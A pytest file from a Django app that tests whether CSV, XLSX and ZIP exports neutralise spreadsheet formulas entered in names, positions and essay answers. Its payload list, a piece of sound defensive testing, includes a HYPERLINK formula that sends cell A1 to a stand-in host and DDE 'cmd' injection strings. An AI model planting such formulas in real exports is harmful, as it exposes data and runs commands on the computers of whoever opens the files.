"""XSS sweep, exports (issue 13): spreadsheet formulas typed into names,
positions and essay answers must not come out of any export as formulas.

A CSV cell that starts with = + - @ (or a tab or carriage return) is a formula
to Excel and LibreOffice: it must be neutralised (a leading quote). An XLSX
cell is a formula only when written as one (openpyxl reads it back with
data_type "f"); text that starts with "=" in a text cell is inert. Every
admin listing is asked for its CSV and XLSX export (Wagtail's ?export=), and
every route whose name says export, as the administrator; the person's own
data download as the owner. Each spreadsheet found is read back cell by cell.
"""

import csv
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from assessments.services.attempts import (
    attempt_answers_save,
    attempt_question_grade,
    attempt_start,
    attempt_submit,
)
from people.forms import ProfileForm

from . import sweep
from .test_xss_html import _form_data
from .xss_payloads import FORMULA_START

pytestmark = pytest.mark.django_db

FORMULAS = (
    '=HYPERLINK("http://xss.invalid/?"&A1,"xss")',
    "+1+cmd|' /C xss'!A0",
    "-1+cmd|' /C xss'!A0",
    "@SUM(1+1)*cmd|' /C xss'!A0",
    '=1+1+0*LEN("xss")',
)
SPREADSHEET = "spreadsheetml"


def _export_urls(urls: dict) -> list[tuple[str, str]]:
    """(role, url) of every export the sweep can reach."""
    found = []
    for route in sweep.walk():
        if route.kwargs or route.unnamed_groups:
            continue
        if route.name.endswith(":index") and route.route.startswith("admin/"):
            url = reverse(route.name)
            found += [("admin", f"{url}?export=csv"), ("admin", f"{url}?export=xlsx")]
    for name, url in urls.items():
        if "export" in name or name.endswith(("_xlsx", ":class_zip")):
            found.append(("admin", url))
    found.append(("owner", reverse("people:personal_data_download")))
    return found


def _cells(name: str, content: bytes, kind: str):
    """(where, value, is_formula) of every cell of a CSV, XLSX or ZIP of them."""
    if name.endswith(".zip") or content[:2] == b"PK" and "zip" in kind:
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            for member in archive.namelist():
                yield from _cells(member, archive.read(member), "")
    elif name.endswith(".xlsx") or SPREADSHEET in kind:
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str):
                        yield (
                            f"{name}!{sheet.title}!{cell.coordinate}",
                            cell.value,
                            cell.data_type == "f",
                        )
    elif name.endswith(".csv") or "csv" in kind:
        text = content.decode("utf-8-sig", errors="replace")
        header = text.split("\n", 1)[0]
        delimiter = ";" if header.count(";") > header.count(",") else ","
        for r, row in enumerate(csv.reader(io.StringIO(text), delimiter=delimiter)):
            for c, value in enumerate(row):
                yield f"{name}!R{r + 1}C{c + 1}", value, value.startswith(FORMULA_START)


@pytest.fixture(scope="module")
def urls(world):
    found, _left_out = sweep.targets(world)
    return {t.name: t.url for t in found}


def _bytes(response) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def _essay(world, text):
    attempt = attempt_start(quiz=world["quiz"], learner=world["owner"])
    attempt_answers_save(
        attempt=attempt,
        answers={"1": {"value": "true"}, "2": {"text": text}},
        sequence=attempt.sequence,
    )
    attempt_submit(attempt=attempt)
    answer = attempt.questions.get(position=2)
    attempt_question_grade(
        question=answer, marks=Decimal("1"), comment=text, grader=world["trainer1"]
    )


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_export_writes_a_formula(world, urls, formula):
    owner = world["owner"]
    clients = {role: sweep.client_for(role, world) for role in ("owner", "admin")}
    data = _form_data(ProfileForm(instance=owner))
    data.update(data_processing_consent="on", full_name=formula, position=formula)
    response = clients["owner"].post(reverse("people:profile"), data)
    assert response.status_code == 302, "the name rule lets a formula through"
    type(world["open_attempt"]).objects.filter(pk=world["open_attempt"].pk).delete()
    _essay(world, formula)

    problems, spreadsheets, carrying = [], 0, 0
    for role, url in _export_urls(urls):
        response = clients[role].get(url)
        assert response.status_code < 500, url
        kind = response.get("Content-Type", "")
        disposition = response.get("Content-Disposition", "")
        name = disposition.rsplit("filename=", 1)[-1].strip('"') if disposition else ""
        if response.status_code != 200 or not (
            "csv" in kind or SPREADSHEET in kind or "zip" in kind
        ):
            continue
        spreadsheets += 1
        found = False
        for where, value, is_formula in _cells(name, _bytes(response), kind):
            if "xss" not in value:
                continue
            found = True
            if is_formula:
                problems.append(f"{url} {where}: {value[:60]!r}")
        carrying += found
    print(f"\n{spreadsheets} spreadsheets, {carrying} with the formula")  # noqa: T201
    assert spreadsheets >= 5 and carrying >= 3
    assert problems == [], "\n".join(problems)
